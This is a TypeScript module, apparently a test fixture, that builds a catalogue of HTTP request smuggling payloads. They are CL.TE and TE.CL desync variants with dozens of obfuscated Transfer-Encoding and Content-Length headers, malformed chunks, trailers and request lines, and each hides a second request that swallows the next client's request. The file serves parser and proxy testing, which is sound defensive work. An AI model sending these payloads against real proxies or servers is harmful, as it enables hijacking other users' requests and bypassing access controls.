import { HOSTILE_CASES, type HostileCase } from './hostile-cases.ts'

/** What a client sends through a proxy, in the hope that proxy and program disagree where a request ends. */
export type SmugglingPayload = Pick<HostileCase, 'name' | 'bytes'>

const HOST = 'Host: a\r\n'
const FIELDS = `${HOST}Authorization: Bearer mallory\r\nContent-Type: application/json\r\n`
const LAST_CHUNK = '0\r\n\r\n'
const CHUNKED = 'Transfer-Encoding: chunked\r\n'

/** The request that is hidden in a body. Its end is open, so that it swallows the line of a request that comes behind. */
const SMUGGLED_REQUEST = `GET /plants?hidden HTTP/1.1\r\n${FIELDS}X: `

const LENGTH = `Content-Length: ${SMUGGLED_REQUEST.length}\r\n`

/** The groups of what the program gets without a proxy that are not about framing. */
const NON_FRAMING_GROUPS = new Set(['sizes of a header', 'bodies'])

function post(fields: string, body: string, line = 'POST /plants HTTP/1.1'): string {
  return `${line}\r\n${FIELDS}${fields}\r\n${body}`
}

function createPayload(name: string, text: string): SmugglingPayload {
  return { name, bytes: Buffer.from(text, 'latin1') }
}

/** Who believes Content-Length sees one request here, and who believes the field sees two. */
function smuggleByLength(field: string): string {
  const body = LAST_CHUNK + SMUGGLED_REQUEST
  return post(`Content-Length: ${body.length}\r\n${field}`, body)
}

/** Who believes the field sees one request here, and who believes Content-Length sees two. */
function smuggleByChunks(field: string): string {
  const size = SMUGGLED_REQUEST.length.toString(16)
  return post(`${field}Content-Length: ${size.length + 2}\r\n`, `${size}\r\n${SMUGGLED_REQUEST}\r\n${LAST_CHUNK}`)
}

/** Fields that some read as `Transfer-Encoding: chunked`, and others do not. */
const CODINGS: Readonly<Record<string, string>> = {
  plain: CHUNKED,
  'in capitals': 'TRANSFER-ENCODING: CHUNKED\r\n',
  'with a space before the colon': 'Transfer-Encoding : chunked\r\n',
  'with a tab before the colon': 'Transfer-Encoding\t: chunked\r\n',
  'with a tab after the colon': 'Transfer-Encoding:\tchunked\r\n',
  'without a space': 'Transfer-Encoding:chunked\r\n',
  'with a space at its end': 'Transfer-Encoding: chunked \r\n',
  'with a tab at its end': 'Transfer-Encoding: chunked\t\r\n',
  'with a vertical tab': 'Transfer-Encoding: \x0bchunked\r\n',
  'with a form feed': 'Transfer-Encoding: chunked\x0c\r\n',
  'with NUL': 'Transfer-Encoding: chunked\0\r\n',
  'with a space of Latin-1': 'Transfer-Encoding:\xa0chunked\r\n',
  'with a bare CR before': 'X: a\rTransfer-Encoding: chunked\r\n',
  'with a bare CR behind': 'Transfer-Encoding: chunked\rX: a\r\n',
  'with a bare LF before': 'X: a\nTransfer-Encoding: chunked\r\n',
  'with a bare LF behind': 'Transfer-Encoding: chunked\nX: a\r\n',
  'with two CR': 'Transfer-Encoding: chunked\r\r\n',
  'folded before its value': 'Transfer-Encoding:\r\n chunked\r\n',
  'folded within its value': 'Transfer-Encoding: chun\r\n ked\r\n',
  'folded by a tab': 'Transfer-Encoding:\r\n\tchunked\r\n',
  'folded into the field before': 'X: a\r\n Transfer-Encoding: chunked\r\n',
  'behind a space': ' Transfer-Encoding: chunked\r\n',
  quoted: 'Transfer-Encoding: "chunked"\r\n',
  'in quotes of another kind': "Transfer-Encoding: 'chunked'\r\n",
  'behind identity': 'Transfer-Encoding: identity, chunked\r\n',
  'before identity': 'Transfer-Encoding: chunked, identity\r\n',
  'behind gzip': 'Transfer-Encoding: gzip, chunked\r\n',
  'behind a comma': 'Transfer-Encoding: ,chunked\r\n',
  'before a comma': 'Transfer-Encoding: chunked,\r\n',
  'with a parameter': 'Transfer-Encoding: chunked;q=1\r\n',
  twice: CHUNKED + CHUNKED,
  'twice in one field': 'Transfer-Encoding: chunked, chunked\r\n',
  'and a field of another coding': `${CHUNKED}Transfer-Encoding: cow\r\n`,
  'behind a field of another coding': `Transfer-Encoding: cow\r\n${CHUNKED}`,
  'and identity in a field of its own': `${CHUNKED}Transfer-Encoding: identity\r\n`,
  'of another spelling': 'Transfer-Encoding: xchunked\r\n',
  'by an underscore': 'Transfer_Encoding: chunked\r\n',
  'named like it': 'X-Transfer-Encoding: chunked\r\n',
  'with a letter beyond ASCII': 'Transfer-Encoding: chunKed\r\n'.replace('K', '\xe2\x84\xaa'),
  'that Connection names': `${CHUNKED}Connection: Transfer-Encoding\r\n`,
}

/** Fields that some read as the length of a body, and others do not. */
const LENGTHS: Readonly<Record<string, (length: number) => string>> = {
  'and 0': (length) => `Content-Length: ${length}\r\nContent-Length: 0\r\n`,
  'behind 0': (length) => `Content-Length: 0\r\nContent-Length: ${length}\r\n`,
  'and 0 in one field': (length) => `Content-Length: ${length}, 0\r\n`,
  'twice in one field': (length) => `Content-Length: ${length}, ${length}\r\n`,
  'with a plus': (length) => `Content-Length: +${length}\r\n`,
  'with a minus': (length) => `Content-Length: -${length}\r\n`,
  'with zeros before': (length) => `Content-Length: 000${length}\r\n`,
  'in hexadecimal': (length) => `Content-Length: 0x${length.toString(16)}\r\n`,
  'with an exponent': (length) => `Content-Length: ${length}e0\r\n`,
  'with a fraction': (length) => `Content-Length: ${length}.0\r\n`,
  'with a space within': (length) => `Content-Length: ${String(length).replace(/^./, '$& ')}\r\n`,
  'with a space before the colon': (length) => `Content-Length : ${length}\r\n`,
  'with a tab after the colon': (length) => `Content-Length:\t${length}\r\n`,
  'with a vertical tab': (length) => `Content-Length: \x0b${length}\r\n`,
  'with NUL': (length) => `Content-Length: ${length}\0\r\n`,
  quoted: (length) => `Content-Length: "${length}"\r\n`,
  'with a bare LF before': (length) => `X: a\nContent-Length: ${length}\r\n`,
  'with a bare CR before': (length) => `X: a\rContent-Length: ${length}\r\n`,
  folded: (length) => `Content-Length:\r\n ${length}\r\n`,
  'folded into the field before': (length) => `X: a\r\n Content-Length: ${length}\r\n`,
  'of 2^64 more': (length) => `Content-Length: ${2n ** 64n + BigInt(length)}\r\n`,
  'of 2^32 more': (length) => `Content-Length: ${2 ** 32 + length}\r\n`,
  'with an underscore': (length) => `Content_Length: ${length}\r\n`,
  'that Connection names': (length) => `Content-Length: ${length}\r\nConnection: Content-Length\r\n`,
}

/** What may come where a chunk ends, or where its size stands. */
const CHUNKS: Readonly<Record<string, string>> = {
  'a size of 2^64': '10000000000000000\r\n',
  'a size of 2^64 more': '10000000000000001\r\na\r\n',
  'a size of 2^32 more': '100000001\r\na\r\n',
  'a size below 0': '-1\r\na\r\n',
  'a size with a plus': '+1\r\na\r\n',
  'a size with 0x': '0x1\r\na\r\n',
  'a size with an underscore': '1_0\r\na\r\n',
  'a size with a space before': ' 1\r\na\r\n',
  'a size with a space behind': '1 \r\na\r\n',
  'a size with a tab behind': '1\t\r\na\r\n',
  'no size': '\r\na\r\n',
  'a bare LF after a size': '1\na\r\n',
  'a bare CR after a size': '1\ra\r\n',
  'a bare LF after a chunk': '1\r\na\n',
  'a bare CR after a chunk': '1\r\na\r',
  'two bytes of another kind after a chunk': '1\r\naXX',
  'nothing after a chunk': '1\r\na',
  'an extension': '1;a=b\r\na\r\n',
  'an extension with a bare LF': '1;a\nb\r\na\r\n',
  'an extension with a bare CR': '1;a\rb\r\na\r\n',
  'an extension with a quoted CR LF': '1;a="\r\n"\r\na\r\n',
  'an extension without a name': '1;\r\na\r\n',
  'an extension with NUL': '1;\0\r\na\r\n',
  'an extension of 20,000 bytes': `1;${'a'.repeat(20_000)}\r\na\r\n`,
  'a size of 1,000 zeros': `${'0'.repeat(1000)}1\r\na\r\n`,
}

/** What may come behind the last chunk. */
const TRAILERS: Readonly<Record<string, string>> = {
  'Content-Length': `${LENGTH}\r\n`,
  'Transfer-Encoding': `${CHUNKED}\r\n`,
  Host: 'Host: b\r\n\r\n',
  Authorization: 'Authorization: Bearer victim\r\n\r\n',
  'a fold': 'X: a\r\n b\r\n\r\n',
  'a bare LF': 'X: a\n\r\n',
  'a bare LF at its end': 'X: a\r\n\n',
  'a bare CR': 'X: a\r\r\n',
  'a name with a space': 'X : a\r\n\r\n',
  'no colon': 'nothing\r\n\r\n',
}

/** First lines that are read as another version, or another target. */
const REQUEST_LINES: readonly string[] = [
  ...['1.0', '0.9', '2.0', '1.2', '1.01', '1.1 HTTP/1.0', '1.1\r'].map((version) => `POST /plants HTTP/${version}`),
  ...['http://a/plants', 'http://b:80/plants', 'http://a@b/plants', 'https://a/plants', '//a/plants', ' /plants'].map(
    (target) => `POST ${target} HTTP/1.1`,
  ),
  ...['/plants?%0d%0aX:%20a', '/plants%20HTTP/1.1%0d%0aX:%20a', '/plants '].map((target) => `POST ${target} HTTP/1.1`),
  ...['POST\t/plants HTTP/1.1', 'POST /plants\tHTTP/1.1', 'POST /plants\rHTTP/1.1', 'POST /plants'],
  ...['GET /plants', 'HEAD /plants', 'OPTIONS *', 'DELETE /plants/1', 'TRACE /plants', 'CONNECT a:80'].map(
    (line) => `${line} HTTP/1.1`,
  ),
]

const EXPECTATIONS = ['100-continue', '100-Continue, 100-continue', 'y 100-continue', '100-continue\x0b', '']

/** What is here, and what the program gets without a proxy. */
export const SMUGGLING_PAYLOADS: readonly SmugglingPayload[] = [
  ...Object.entries(CODINGS).flatMap(([name, field]) => [
    createPayload(`Content-Length, and chunked ${name}`, smuggleByLength(field)),
    createPayload(`chunked ${name}, and Content-Length`, smuggleByChunks(field)),
  ]),
  ...Object.entries(LENGTHS).map(([name, field]) =>
    createPayload(`Content-Length ${name}`, post(field(SMUGGLED_REQUEST.length), SMUGGLED_REQUEST)),
  ),
  ...Object.entries(CHUNKS).map(([name, chunk]) =>
    createPayload(name, post(CHUNKED, chunk + LAST_CHUNK + SMUGGLED_REQUEST)),
  ),
  ...Object.entries(TRAILERS).map(([name, trailer]) =>
    createPayload(`${name} in a trailer`, post(CHUNKED, `1\r\na\r\n0\r\n${trailer}${SMUGGLED_REQUEST}`)),
  ),
  ...REQUEST_LINES.flatMap((line) => [
    createPayload(`${JSON.stringify(line)} and a body with a length`, post(LENGTH, SMUGGLED_REQUEST, line)),
    createPayload(`${JSON.stringify(line)} and chunks`, post(CHUNKED, LAST_CHUNK + SMUGGLED_REQUEST, line)),
  ]),
  ...EXPECTATIONS.map((value) =>
    createPayload(`Expect: ${JSON.stringify(value)}`, post(`Expect: ${value}\r\n${LENGTH}`, SMUGGLED_REQUEST)),
  ),
  ...Object.entries(HOSTILE_CASES).flatMap(([group, rows]) => (NON_FRAMING_GROUPS.has(group) ? [] : rows)),
]
